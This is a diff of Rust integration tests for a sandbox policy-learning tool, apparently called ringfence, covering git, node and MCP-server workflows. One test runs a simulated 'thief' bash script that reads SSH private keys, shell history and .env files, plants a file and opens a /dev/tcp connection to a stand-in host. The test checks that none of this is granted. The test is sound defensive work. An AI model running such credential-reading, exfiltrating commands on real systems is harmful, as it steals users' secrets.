@@ -8,23 +8,25 @@ use crate::bench::Bench;
 
 /// Learns, checks what was written, and calls it; learns a second round where the first was not enough.
 fn converges(bench: &Bench, name: &str, command: &[&str]) -> String {
-    let first = [&["learn", "--name", name, "--out", "one.toml", "--"], command].concat();
-    let told = bench.ringfence(&first);
+    let learn = ["learn", "--name", name, "--out", "one.toml", "--"];
+    let told = bench.ringfence(&[&learn[..], command].concat());
     assert!(told.ends_with("exit 0"), "{told}");
-    for (file, next) in [("one.toml", Some("two.toml")), ("two.toml", None)] {
-        let checked = bench.ringfence(&["--policy", file, "check"]);
-        assert!(checked.ends_with("exit 0"), "{checked}\n{}", bench.read(file));
-        let called = bench.ringfence(&["--policy", file, "call", name]);
-        if called.ends_with("exit 0") {
-            return called;
-        }
-        let Some(next) = next else { panic!("{called}\n{}", bench.read(file)) };
-        let again =
-            [&["learn", "--name", name, "--from", file, "--out", next, "--"], command].concat();
-        let told = bench.ringfence(&again);
-        assert!(told.ends_with("exit 0"), "{told}");
+    let first = called_with(bench, name, "one.toml");
+    if first.ends_with("exit 0") {
+        return first;
     }
-    unreachable!()
+    let again = ["learn", "--name", name, "--from", "one.toml", "--out", "two.toml", "--"];
+    let told = bench.ringfence(&[&again[..], command].concat());
+    assert!(told.ends_with("exit 0"), "{told}");
+    let second = called_with(bench, name, "two.toml");
+    assert!(second.ends_with("exit 0"), "{second}\n{}", bench.read("two.toml"));
+    second
+}
+
+fn called_with(bench: &Bench, name: &str, file: &str) -> String {
+    let checked = bench.ringfence(&["--policy", file, "check"]);
+    assert!(checked.ends_with("exit 0"), "{checked}\n{}", bench.read(file));
+    bench.ringfence(&["--policy", file, "call", name])
 }
 
 fn lines<'a>(text: &'a str, start: &str) -> Vec<&'a str> {
@@ -67,19 +69,38 @@ fn keeps_what_is_sensitive_out() {
     let script = "cat ~/.ssh/id_ed25519 $1/.ssh/id_ed25519; cat $1/.bash_history $1/w/.env $1/w/code.txt > /dev/null; \
         echo x > $1/planted; (exec 3<>/dev/tcp/203.0.113.9/443); getent hosts collect.example; true";
     let arguments = [
-        "--workspace", "home/w", "learn", "--name", "thief", "--out", "one.toml", "--", "bash", "-c", script, "bash",
+        "--workspace",
+        "home/w",
+        "learn",
+        "--name",
+        "thief",
+        "--out",
+        "one.toml",
+        "--",
+        "bash",
+        "-c",
+        script,
+        "bash",
         home.to_str().unwrap(),
     ];
     let told = bench.ringfence_in(&[("HOME", home.to_str().unwrap())], &arguments);
     assert!(!told.contains("PRIVATE"), "{told}");
     let written = bench.read("one.toml");
-    let granted: String = written.lines().filter(|line| !line.starts_with('#')).collect::<Vec<_>>().join("\n");
+    let granted: String =
+        written.lines().filter(|line| !line.starts_with('#')).collect::<Vec<_>>().join("\n");
     let capabilities = granted.split("capabilities").nth(1).unwrap();
     for never in [".ssh", "history", ".env", "planted", "203.0.113.9", "collect.example", "network"] {
         assert!(!capabilities.contains(never), "{never}: {written}");
     }
     let review = lines(&written, "# review:").join("\n");
-    for seen in [".ssh/id_ed25519", ".bash_history", "${workspace}/.env", "write ${home}:", "203.0.113.9:443", "collect.example"] {
+    for seen in [
+        ".ssh/id_ed25519",
+        ".bash_history",
+        "${workspace}/.env",
+        "write ${home}:",
+        "203.0.113.9:443",
+        "collect.example",
+    ] {
         assert!(review.contains(seen), "{seen}: {review}");
     }
     assert!(!home.join("planted").exists());
@@ -122,7 +143,10 @@ fn git_converges() {
     };
     learn("init", "git init -q . 2>&1; git status --short".into());
     learn("add", "git add -A && git status --short".into());
-    let called = learn("commit", format!("echo $$ >> file.txt && {git} commit -qam more && git log --oneline | wc -l"));
+    let called = learn(
+        "commit",
+        format!("echo $$ >> file.txt && {git} commit -qam more && git log --oneline | wc -l"),
+    );
     assert!(called.contains("\"ok\":true"), "{called}");
     learn("log", "git log --stat && git diff HEAD".into());
     learn("clone", "rm -rf ../copy && git clone -q . ../copy && git -C ../copy log --oneline".into());
@@ -158,17 +182,32 @@ fn node_converges() {
 fn an_mcp_server_converges() {
     let bench = Bench::new().file("server.py", SERVER).file("notes/today.txt", "the workshop is on Thursday");
     let requests = concat!(
-        r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#, "\n",
-        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#, "\n",
-        r#"{"jsonrpc":"2.0","id":2,"method":"tools/list"}"#, "\n",
-        r#"{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"read_note","arguments":{"name":"today.txt"}}}"#, "\n",
+        r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#,
+        "\n",
+        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
+        "\n",
+        r#"{"jsonrpc":"2.0","id":2,"method":"tools/list"}"#,
+        "\n",
+        r#"{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"read_note","arguments":{"name":"today.txt"}}}"#,
+        "\n",
     );
     let learn = ["learn", "--server", "--name", "notes", "--out", "one.toml", "--", "python3", "server.py"];
     let told = bench.ringfence_with(&learn, requests.as_bytes());
     assert!(told.contains("Thursday") && told.ends_with("exit 0"), "{told}");
     let checked = bench.ringfence(&["--policy", "one.toml", "check"]);
     assert!(checked.ends_with("exit 0"), "{checked}\n{}", bench.read("one.toml"));
-    let wrap = ["--policy", "one.toml", "wrap", "--name", "notes", "--accept", "clean", "--", "python3", "server.py"];
+    let wrap = [
+        "--policy",
+        "one.toml",
+        "wrap",
+        "--name",
+        "notes",
+        "--accept",
+        "clean",
+        "--",
+        "python3",
+        "server.py",
+    ];
     let served = bench.ringfence_with(&wrap, requests.as_bytes());
     assert!(served.contains("Thursday"), "{served}\n{}", bench.read("one.toml"));
 }
@@ -197,7 +236,7 @@ fn a_second_round_keeps_what_the_first_granted() {
     let bench = Bench::new().file("a.txt", "a").file("b.txt", "b");
     let cat = |file: &str, from: &[&str], to: &str| {
         let path = bench.path().join(file);
-        let learn = [&["learn"], from, &["--out", to, "--", "cat", path.to_str().unwrap()]].concat();
+        let learn = [&["learn"][..], from, &["--out", to, "--", "cat", path.to_str().unwrap()]].concat();
         let told = bench.ringfence(&learn);
         assert!(told.ends_with("exit 0"), "{told}");
     };
